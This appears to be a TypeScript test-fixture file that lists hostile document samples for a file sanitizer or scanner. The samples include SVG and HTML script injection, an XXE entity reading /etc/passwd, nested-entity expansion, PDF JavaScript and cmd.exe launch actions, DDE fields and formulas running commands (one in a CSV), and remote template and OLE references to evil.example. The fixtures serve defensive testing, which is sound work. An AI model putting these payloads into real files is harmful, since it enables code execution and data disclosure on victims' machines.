import {
  compound,
  objectStream,
  office,
  openDocument,
  pdf,
  pdfStream,
  pdfWithFile,
  relations,
  wordFields,
  workbook,
} from './documents.ts';
import { svgWith } from './images.ts';

import { row, SVG, HTML, PDF, DOCX, XLSX, ODT, DOC, XLS, RTF, type HostileSample } from './hostile-sample.ts';

/** What runs or fetches something where it is opened. */
export const active: readonly HostileSample[] = [
  row('active-svg', 'a script in an SVG', SVG, svgWith('<script>alert(1)</script>')),
  row('active-svg', 'a script with a prefix', SVG, svgWith('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>')),
  row('active-svg', 'a handler in an SVG', SVG, svgWith('<rect onload="alert(1)"/>')),
  row(
    'active-svg',
    'a handler behind a large value',
    SVG,
    svgWith(`<image href="data:image/png;base64,${'A'.repeat(200_000)}" onload="x()"/>`),
  ),
  row('active-svg', 'a script as an address', SVG, svgWith('<a href=" java&#115;cript:alert(1)">x</a>')),
  row(
    'active-svg',
    'an address that is set later',
    SVG,
    svgWith('<animate attributeName="href" values="#a;javascript:alert(1)"/>'),
  ),
  row('active-svg', 'HTML in an SVG', SVG, svgWith('<foreignObject><b/></foreignObject>')),
  row(
    'active-svg',
    'an entity of markup',
    SVG,
    svgWith('&x;').replace('<svg', '<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]><svg'),
  ),
  row(
    'external-reference',
    'an entity from a file',
    SVG,
    svgWith('&x;').replace('<svg', '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg'),
  ),
  row('external-reference', 'a picture from elsewhere', SVG, svgWith('<image href="https://tracker.example/x.png"/>')),
  row('external-reference', 'a style from elsewhere', SVG, svgWith('<style>@import "https://tracker.example/x.css";</style>')),
  row(
    'active-svg',
    'a script in UTF-16',
    SVG,
    Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(svgWith('<script>alert(1)</script>').replace('UTF-8', 'UTF-16'), 'utf16le'),
    ]),
  ),
  row('active-html', 'a script in HTML', HTML, '<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'),
  row(
    'active-html',
    'a handler in HTML that a title hides',
    HTML,
    '<!DOCTYPE html><title><a href="</title><img src=x onerror=alert(1)>"></title>',
  ),
  row('active-html', 'a frame in HTML', HTML, '<!DOCTYPE html><iframe src="/admin"></iframe>'),
  row(
    'active-html',
    'XML that is a page',
    ['data.xml', 'application/xml'],
    '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  ),
  row(
    'active-html',
    'XML with a style sheet',
    ['data.xml', 'application/xml'],
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="x.xsl"?><a/>',
  ),
  row(
    'archive-bomb',
    'entities of entities',
    ['data.xml', 'application/xml'],
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;"><!ENTITY d "&c;&c;">]><a>&d;</a>',
  ),
  row(
    'active-pdf',
    'a script in a PDF',
    PDF,
    pdf({ catalogue: '/OpenAction 5 0 R', objects: ['<</S /JavaScript /JS (app.alert(1))>>'] }),
  ),
  row('active-pdf', 'a script with an escaped name', PDF, pdf({ objects: ['<</S /J#61va#53cript /J#53 (app.alert(1))>>'] })),
  row('active-pdf', 'a script in packed objects', PDF, pdf({ objects: [objectStream('<</S /JavaScript /JS (app.alert(1))>>')] })),
  row(
    'active-pdf',
    'packed objects in a second packing',
    PDF,
    pdf({ objects: [pdfStream('/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', Buffer.from('78>'))] }),
  ),
  row('active-pdf', 'a program that is started', PDF, pdf({ objects: ['<</S /Launch /F (cmd.exe)>>'] })),
  row(
    'active-pdf',
    'an address that is opened',
    PDF,
    pdf({ catalogue: '/OpenAction 5 0 R', objects: ['<</S /URI /URI (https://example.com/)>>'] }),
  ),
  row('active-pdf', 'actions at events', PDF, pdf({ catalogue: '/AA <</WC 5 0 R>>', objects: ['<</S /Named /N /Print>>'] })),
  row('embedded-object', 'a file in a PDF', PDF, pdfWithFile(Buffer.from('words'))),
  row('document-encrypted', 'an encrypted PDF', PDF, pdf({ trailer: '/Encrypt 5 0 R', objects: ['<</Filter /Standard /V 4>>'] })),
];

/** The same in documents of office programs. */
export const officeFiles: readonly HostileSample[] = [
  row(
    'macro',
    'a document with macros',
    ['letter.docm', 'application/vnd.ms-word.document.macroenabled.12'],
    office('docx', [
      { name: 'word/vbaProject.bin', content: compound([{ name: 'VBA' }, { name: '_VBA_PROJECT', content: Buffer.from('x') }]) },
    ]),
  ),
  row('macro', 'a sheet of macros', XLSX, office('xlsx', [{ name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }])),
  row(
    'macro',
    'a field that starts a program, in pieces',
    DOCX,
    office('docx', [{ name: 'word/document.xml', content: wordFields([' DD', 'EAUTO c:\\\\windows\\\\system32\\\\cmd.exe']) }]),
  ),
  row(
    'macro',
    'a formula that starts a program',
    XLSX,
    office('xlsx', [
      { name: 'xl/worksheets/sheet1.xml', content: '<worksheet><c><f>cmd|&apos;/c calc&apos;!A0</f></c></worksheet>' },
    ]),
  ),
  row(
    'external-reference',
    'a template from elsewhere',
    DOCX,
    office('docx', [
      {
        name: 'word/_rels/settings.xml.rels',
        content: relations([{ type: 'attachedTemplate', target: 'https://evil.example/t.dotm', isOutside: true }]),
      },
    ]),
  ),
  row(
    'external-reference',
    'an object from elsewhere',
    DOCX,
    office('docx', [
      {
        name: 'word/_rels/document.xml.rels',
        content: relations([{ type: 'oleObject', target: 'https://evil.example/a.html!', isOutside: true }]),
      },
    ]),
  ),
  row(
    'embedded-object',
    'an object in a document',
    DOCX,
    office('docx', [
      { name: 'word/embeddings/oleObject1.bin', content: compound([{ name: '\u0001Ole10Native', content: Buffer.from('x') }]) },
    ]),
  ),
  row(
    'embedded-object',
    'controls in a document',
    DOCX,
    office('docx', [{ name: 'word/activeX/activeX1.xml', content: '<a/>' }]),
  ),
  row(
    'macro',
    'an old document with macros',
    DOC,
    compound([{ name: 'WordDocument', content: Buffer.from('x') }, { name: 'Macros' }, { name: 'VBA' }]),
  ),
  row('macro', 'an old sheet of macros', XLS, compound([{ name: 'Workbook', content: workbook(1) }])),
  row(
    'embedded-object',
    'an equation in an old document',
    DOC,
    compound([
      { name: 'WordDocument', content: Buffer.from('x') },
      { name: 'Equation Native', content: Buffer.from('x') },
    ]),
  ),
  row(
    'document-encrypted',
    'an encrypted document',
    ['letter.msg', 'application/octet-stream'],
    compound([{ name: 'EncryptedPackage', content: Buffer.from('x') }]),
  ),
  row(
    'macro',
    'an OpenDocument text with macros',
    ODT,
    openDocument('text', { members: [{ name: 'Basic/Standard/Module1.xml', content: '<a/>' }] }),
  ),
  row(
    'external-reference',
    'an OpenDocument text with a picture from elsewhere',
    ODT,
    openDocument('text', { body: '<draw:image xlink:href="https://tracker.example/x.png"/>' }),
  ),
  row('embedded-object', 'an object in Rich Text', RTF, '{\\rtf1{\\object\\objocx{\\*\\objdata 0105}}}'),
  row('external-reference', 'a template of Rich Text from elsewhere', RTF, '{\\rtf1{\\*\\template https://evil.example/t.dotm}}'),
  row('macro', 'a cell that runs a command', ['table.csv', 'text/csv'], "a,b\n=cmd|'/c calc'!A0,1\n"),
];
